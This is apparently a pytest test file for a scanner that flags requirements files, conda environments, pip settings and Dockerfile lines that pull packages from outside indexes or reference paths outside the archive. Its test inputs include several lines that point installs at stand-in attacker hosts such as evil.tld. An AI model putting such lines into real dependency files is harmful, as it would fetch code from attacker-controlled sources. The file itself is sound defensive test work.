from __future__ import annotations

from typing import Any

import pytest

from modelward.formats import requirements
from modelward.formats.facts import PathEscape, RemoteFetch


@pytest.mark.parametrize(
    "line",
    [
        "--index-url https://packages.evil.tld/simple",
        "--extra-index-url=http://203.0.113.9/simple",
        "-f http://evil.tld/wheels",
        "--trusted-host evil.tld",
        "-ihttps://evil.tld/simple",
        "-fhttps://evil.tld/wheels",
        "--editable=git+https://evil.tld/x.git",
        "x @ https://evil.tld/x-1.tar.gz",
        "git+https://evil.tld/x.git",
        "torch --extra-index-url \\\n  https://evil.tld/simple",
    ],
)
def test_packages_from_elsewhere(line: str) -> None:
    assert [type(fact) for fact in requirements.lines(f"numpy\n{line}\n")] == [RemoteFetch]


@pytest.mark.parametrize(
    "line",
    [
        "torch>=2 ; python_version < '3.12'",
        "--extra-index-url https://download.pytorch.org/whl/cu118",
        "git+https://github.com/huggingface/transformers@0123456",
        "# --index-url http://evil.tld/simple",
        "-e .",
        "-r requirements/base.txt",
        "--index-url ${INDEX}",
    ],
)
def test_near_miss_usual_lines(line: str) -> None:
    assert list(requirements.lines(line)) == []


def test_path_of_the_machine() -> None:
    assert [type(fact) for fact in requirements.lines("-e /tmp/evil")] == [PathEscape]


@pytest.mark.parametrize(
    "document",
    [
        {"channels": ["https://evil.tld/conda"]},
        {"dependencies": ["python=3.11", {"pip": ["--index-url http://evil.tld/simple", "mlflow"]}]},
        {"build_dependencies": ["x @ http://evil.tld/x.whl"]},
    ],
)
def test_conda_environment_that_takes_packages_from_elsewhere(document: Any) -> None:
    assert [type(fact) for fact in requirements.environment(document)] == [RemoteFetch]


def test_usual_conda_environment() -> None:
    usual = {
        "channels": ["conda-forge", "defaults"],
        "dependencies": ["python=3.11", {"pip": ["mlflow==2.1"]}],
    }
    assert list(requirements.environment(usual)) == []
    assert list(requirements.environment(["x"])) == []


@pytest.mark.parametrize("setting", ["trusted-host = evil.tld", "find_links=http://evil.tld/wheels"])
def test_settings_that_take_packages_from_elsewhere(setting: str) -> None:
    assert [type(fact) for fact in requirements.settings(f"[global]\n{setting}\n")] == [RemoteFetch]


@pytest.mark.parametrize("setting", ["trusted-host = pypi.{0}", "repository = https://evil.tld/legacy/"])
def test_usual_settings(setting: str) -> None:
    assert list(requirements.settings("[global]\n" + setting.format("org") + "\n")) == []


def test_settings_scripts_and_projects() -> None:
    assert list(requirements.settings("[global]\nindex-url = http://evil.tld/simple\n"))
    assert not list(requirements.settings("[metadata]\nurl = https://evil.tld\n"))
    assert list(requirements.shell("RUN pip install -i http://evil.tld/simple x"))
    assert not list(requirements.shell("# pip install -i http://evil.tld/simple x"))
    assert list(requirements.project({"tool": {"uv": {"index": [{"url": "https://evil.tld/simple"}]}}}))
    assert list(requirements.project({"source": [{"url": "https://evil.tld/simple", "name": "x"}]}))
    assert not list(
        requirements.project({"project": {"urls": {"home": "https://evil.tld"}, "dependencies": ["a"]}})
    )


@pytest.mark.parametrize("line", ["-r ../more.txt", "--requirement=/etc/x", "-r file:///x", "-c../../x"])
def test_list_out_of_the_archive(line: str) -> None:
    found = requirements.lines(f"numpy\n{line}\n", archived="requirements.txt")
    assert [type(fact) for fact in found] == [PathEscape]


@pytest.mark.parametrize("line", ["-r more.txt", "-r ../more.txt", "-c x/../y.txt"])
def test_list_within_the_archive_or_the_repository(line: str) -> None:
    assert list(requirements.lines(line, archived="x/requirements.txt")) == []
    assert list(requirements.lines(line)) == []
